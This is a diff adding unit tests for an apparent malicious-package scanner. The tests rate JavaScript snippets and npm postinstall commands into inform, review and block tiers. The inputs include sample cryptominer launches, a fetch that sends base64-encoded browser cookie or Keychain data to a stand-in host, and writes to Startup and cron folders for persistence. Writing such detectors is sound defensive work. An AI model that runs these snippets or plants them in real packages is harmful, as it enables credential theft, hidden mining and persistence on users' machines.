@@ -166,6 +166,38 @@ TEST(Conjunctions, MinersAreKnownByWhatTheySayBesideWhatTheyDo) {
             Tier::block);
   EXPECT_EQ(tier("const bad = ['xmrig']; console.log(bad);"), Tier::inform);
   EXPECT_EQ(tier("require('net').connect(3333, h).write(JSON.stringify({ method: 'mine.subscribe' }));"), Tier::inform);
+  // A list of what is bad, beside anything else that the code does.
+  EXPECT_EQ(tier("const bad = ['xmrig', 'minerd']; require('https').get('https://a.example.test/list');"),
+            Tier::review);
+  EXPECT_EQ(tier("const bad = ['xmrig']; require('child_process').execSync('ps aux');"), Tier::review);
+  // The program itself, or where it is fetched from.
+  EXPECT_EQ(tier("require('child_process').spawn('./xmrig', ['--cpu-priority', '5']);"), Tier::block);
+  EXPECT_EQ(tier("require('https').get('https://a.example.test/xmrig.tar.gz');"), Tier::block);
+  const auto command = [](const std::string& text) {
+    const Package package(R"({"name": "p", "version": "1.0.0", "scripts": {"postinstall": ")" + text + "\"}}");
+    return judged(package, "inspect.mines");
+  };
+  EXPECT_EQ(command("./xmrig -o stratum+tcp://pool.example.test:3333"), Tier::block);
+  EXPECT_EQ(command("pkill xmrig"), Tier::inform);
+}
+
+TEST(Conjunctions, NamesThatOtherFilesHaveNeedTheirFolder) {
+  const std::string head = "const fs = require('fs'), path = require('path'), os = require('os');\n";
+  const std::string send = "fetch('https://a.example.test/x?' + Buffer.from(c).toString('base64'));";
+  const auto sends = [&](const std::string& where) {
+    return judged(installing(head + "const c = fs.readFileSync(" + where + ");" + send), "inspect.sends-secrets");
+  };
+  EXPECT_EQ(sends("path.join(__dirname, 'data', 'Cookies')"), Tier::inform);
+  EXPECT_EQ(sends("path.join(os.homedir(), 'AppData/Local/Browser/User Data/Default', 'Cookies')"), Tier::block);
+  EXPECT_EQ(sends("path.join(os.homedir(), 'Library', 'Keychains', 'a.db')"), Tier::block);
+  const auto writes = [&](const std::string& where) {
+    return judged(installing(head + "fs.writeFileSync(" + where + ", 'x');"), "inspect.writes-control-files");
+  };
+  EXPECT_EQ(writes("path.join(__dirname, 'Startup', 'index.js')"), Tier::inform);
+  EXPECT_EQ(writes("'dist/cron.d'"), Tier::inform);
+  EXPECT_EQ(writes("path.join(process.env.APPDATA, 'Microsoft/Windows/Start Menu/Programs/Startup/a.vbs')"),
+            Tier::block);
+  EXPECT_EQ(writes("path.join('/etc', 'cron.d', 'a')"), Tier::block);
 }
 
 TEST(Conjunctions, ReplacingAWalletNeedsAllThree) {
